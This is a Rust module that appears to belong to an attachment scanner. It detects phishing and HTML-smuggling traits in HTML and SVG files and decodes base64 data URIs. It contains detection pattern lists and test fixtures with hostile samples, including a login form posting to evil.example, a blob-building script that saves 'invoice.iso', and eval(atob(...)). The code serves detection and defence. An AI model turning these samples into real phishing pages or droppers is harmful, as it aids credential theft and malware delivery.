//! HTML and SVG attachments: a local web page needs no link to click, so phishing
//! kits ship their login forms, redirects and "HTML smuggling" droppers as
//! attachments. Looks for: a password field (in markup or set from script), a form
//! that posts to a remote site (a local file has no site of its own, so any
//! absolute action is foreign), a redirect or decoded-and-run script on open,
//! a script that assembles a file in the browser and saves it (HTML smuggling),
//! scripts inside an SVG image, HTML applications (`<hta:application>`), and
//! files carried in `data:application/...;base64,` URIs (RFC 2397), which are
//! decoded and handed back to be inspected like any other file.
//! Follows the HTML Living Standard's attribute syntax loosely: values may be
//! quoted with `"`, `'` or not at all, names are case-insensitive.
//!
//! Hostile input: the decoded attachment. At most [`MAX_MARKUP_BYTES`] are read;
//! they are folded once into a lower-case copy without white space or quotes (so
//! `type = "Password"` and `setAttribute('type','password')` read alike) and
//! searched with linear-time substring search. Each `<form` tag is read for at
//! most [`MAX_TAG_BYTES`], and at most [`MAX_FORMS`] forms are looked at. Data URIs
//! are looked for in the first [`MAX_DATA_URI_SCAN`] bytes, at most
//! [`MAX_DATA_URIS`] of them, each decoded to no more than its text's length.

use memchr::memmem;

/// Bytes of a markup file that are examined.
const MAX_MARKUP_BYTES: usize = 4 * 1024 * 1024;
/// Bytes of one tag read when looking for its attributes.
const MAX_TAG_BYTES: usize = 4096;
/// Forms examined per file.
const MAX_FORMS: usize = 64;
/// `data:application/...;base64,` URIs decoded per file.
const MAX_DATA_URIS: usize = 16;
/// Bytes of a markup file searched for data URIs (smuggled files are large).
const MAX_DATA_URI_SCAN: usize = 32 * 1024 * 1024;

/// What a markup file does.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub(crate) struct Markup {
    /// A password field exists or is created.
    pub password: bool,
    /// The remote host the first foreign form posts to.
    pub foreign_form: Option<String>,
    /// The page navigates away or runs decoded script as it opens: what was seen.
    pub redirect: Option<&'static str>,
    /// The page builds a file from embedded data and offers it for saving.
    pub smuggling: bool,
    /// Script in an SVG image.
    pub svg_script: bool,
    /// An HTML application (runs with full user rights under mshta.exe).
    pub hta: bool,
    /// Files carried in `data:application/...;base64,` URIs, decoded.
    pub payloads: Vec<Vec<u8>>,
}

/// Folds markup for matching: lower case, no ASCII white space, no quotes.
fn fold(data: &[u8]) -> Vec<u8> {
    let data = &data[..data.len().min(MAX_MARKUP_BYTES)];
    data.iter()
        .filter(|b| !b.is_ascii_whitespace() && !matches!(b, b'"' | b'\'' | b'`'))
        .map(u8::to_ascii_lowercase)
        .collect()
}

fn has(hay: &[u8], needle: &[u8]) -> bool {
    memmem::find(hay, needle).is_some()
}

fn has_any(hay: &[u8], needles: &[&[u8]]) -> bool {
    needles.iter().any(|n| has(hay, n))
}

/// Examines an HTML (or, with `svg`, an SVG) file.
pub(crate) fn inspect(data: &[u8], svg: bool) -> Markup {
    let f = fold(data);
    let password = has_any(&f, &[b"type=password", b"type,password", b"type:password"]);
    let redirect = if has(&f, b"http-equiv=refresh") && has(&f, b"url=http") {
        Some("meta refresh to a remote page")
    } else if has_any(
        &f,
        &[
            b"location.href=",
            b"location.replace(",
            b"location.assign(",
            b"window.location=",
            b"document.location=",
            b"top.location=",
        ],
    ) {
        Some("script changes the page location")
    } else if has_any(
        &f,
        &[
            b"eval(atob(",
            b"eval(unescape(",
            b"eval(decodeuricomponent(",
            b"eval(string.fromcharcode(",
            b"document.write(atob(",
            b"document.write(unescape(",
            b"document.write(decodeuricomponent(",
        ],
    ) {
        Some("script decodes and runs hidden code")
    } else {
        None
    };
    let builds_blob = has_any(&f, &[b"newblob(", b"newfile(["]);
    let decodes = has_any(&f, &[b"atob(", b"uint8array", b"fromcharcode", b"base64"]);
    let saves = has_any(
        &f,
        &[
            b"createobjecturl",
            b".download=",
            b"download=",
            b"mssaveoropenblob",
        ],
    );
    let smuggling = has(&f, b"mssaveoropenblob")
        || builds_blob && decodes && saves
        || has(&f, b"href=data:application/") && has(&f, b"download");
    let svg_script = svg
        && has_any(
            &f,
            &[
                b"<script",
                b"javascript:",
                b"onload=",
                b"onerror=",
                b"onmouseover=",
            ],
        );
    Markup {
        password,
        foreign_form: foreign_form(&f),
        redirect,
        smuggling,
        svg_script,
        hta: has(&f, b"<hta:application"),
        payloads: data_uris(data),
    }
}

/// The files in `data:application/<type>[;params];base64,<data>` URIs (RFC 2397),
/// decoded. Image URIs are common in legitimate pages and are left alone.
fn data_uris(data: &[u8]) -> Vec<Vec<u8>> {
    let data = &data[..data.len().min(MAX_DATA_URI_SCAN)];
    let mut out = Vec::new();
    // The scheme is case-insensitive: each colon is checked for "data" before it.
    for colon in memchr::memchr_iter(b':', data) {
        if out.len() >= MAX_DATA_URIS {
            break;
        }
        let Some(start) = colon.checked_sub(4) else {
            continue;
        };
        if !data[start..colon].eq_ignore_ascii_case(b"data") {
            continue;
        }
        let head: Vec<u8> = data[start..data.len().min(start + 256)]
            .iter()
            .map(u8::to_ascii_lowercase)
            .collect();
        if !head.starts_with(b"data:application/") {
            continue;
        }
        let Some(comma) = memchr::memchr(b',', &head) else {
            continue;
        };
        if !head[..comma].ends_with(b";base64") {
            continue;
        }
        let payload = decode_base64(&data[start + comma + 1..]);
        if !payload.is_empty() {
            out.push(payload);
        }
    }
    out
}

/// Base64 (standard or URL-safe alphabet) up to the first character outside it;
/// white space and line breaks are skipped.
fn decode_base64(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len().min(1 << 20) / 4 * 3);
    let mut acc = 0u32;
    let mut bits = 0;
    for &c in text {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b' ' | b'\t' | b'\r' | b'\n' => continue,
            _ => break,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    out
}

/// The host of the first `<form` whose action (or a button's `formaction`) is an
/// absolute URL, in folded markup.
fn foreign_form(f: &[u8]) -> Option<String> {
    for start in memmem::find_iter(f, b"<form").take(MAX_FORMS) {
        let tag = &f[start..f.len().min(start + MAX_TAG_BYTES)];
        let tag = &tag[..memchr::memchr(b'>', tag).unwrap_or(tag.len())];
        let Some(at) = memmem::find(tag, b"action=") else {
            continue;
        };
        let value = &tag[at + b"action=".len()..];
        let rest = ["http://", "https://", "//"]
            .iter()
            .find_map(|p| value.strip_prefix(p.as_bytes()));
        if let Some(rest) = rest {
            let host: String = rest
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':'))
                .take(253)
                .map(|&b| char::from(b))
                .collect();
            return Some(if host.is_empty() { "?".into() } else { host });
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_login_form_is_found_in_any_spelling() {
        let page = br#"<html><form method="POST" action="https://evil.example/p.php">
            <input name=u><INPUT TYPE = "Password" name=p></form></html>"#;
        let m = inspect(page, false);
        assert!(m.password);
        assert_eq!(m.foreign_form.as_deref(), Some("evil.example"));
        let m = inspect(
            b"<script>i.setAttribute('type', 'password')</script>",
            false,
        );
        assert!(m.password);
        assert_eq!(m.foreign_form, None);
    }

    #[test]
    fn an_ordinary_page_is_quiet() {
        let page = b"<html><head><title>Receipt</title></head><body><p>Thank you for your \
            order. Your password will never be requested by email.</p>\
            <form action=\"#\"><input type=text name=q></form></body></html>";
        assert_eq!(inspect(page, false), Markup::default());
    }

    #[test]
    fn redirects_and_hidden_script() {
        let m = inspect(
            b"<meta http-equiv=\"refresh\" content=\"0; url=https://x.example/\">",
            false,
        );
        assert_eq!(m.redirect, Some("meta refresh to a remote page"));
        let m = inspect(
            b"<script>window.location = 'https://x.example'</script>",
            false,
        );
        assert!(m.redirect.is_some());
        let m = inspect(b"<script>eval(atob('YWxlcnQoMSk='))</script>", false);
        assert_eq!(m.redirect, Some("script decodes and runs hidden code"));
    }

    #[test]
    fn html_smuggling_is_seen() {
        let page = b"<script>var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]);\
            var a = document.createElement('a'); a.href = URL.createObjectURL(b);\
            a.download = 'invoice.iso'; a.click();</script>";
        assert!(inspect(page, false).smuggling);
        let link = b"<a href=\"data:application/zip;base64,UEsDBA==\" download=\"x.zip\">get</a>";
        assert!(inspect(link, false).smuggling);
        assert!(!inspect(b"<a href=\"report.pdf\" download>save</a>", false).smuggling);
    }

    #[test]
    fn files_in_data_uris_are_decoded() {
        let page =
            b"<a href=\"DATA:Application/octet-stream;name=x;base64,TVpQAAIA\r\nAAAEAA8A\">x</a>\
            <img src=\"data:image/png;base64,iVBORw0KGgo=\">";
        let m = inspect(page, false);
        assert_eq!(m.payloads, vec![b"MZP\0\x02\0\0\0\x04\0\x0f\0".to_vec()]);
        assert_eq!(decode_base64(b"aGVsbG8=\""), b"hello");
        assert_eq!(decode_base64(b"_-8"), [0xff, 0xef]);
    }

    #[test]
    fn svg_scripts_and_hta() {
        let svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>";
        assert!(inspect(svg, true).svg_script);
        assert!(!inspect(b"<svg><rect width='1'/></svg>", true).svg_script);
        assert!(inspect(b"<HTA:APPLICATION ID=x>", false).hta);
    }
}
